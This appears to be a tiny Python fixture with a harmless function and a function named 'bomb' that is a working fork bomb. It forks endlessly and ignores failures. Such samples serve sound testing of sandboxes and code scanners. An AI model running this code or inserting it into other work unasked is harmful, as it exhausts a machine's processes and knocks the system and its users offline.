import os


def fine():
    return 1


def bomb():
    """Fork forever: every copy forks again, and ignores the failures."""
    while True:
        try:
            os.fork()
        except OSError:
            pass
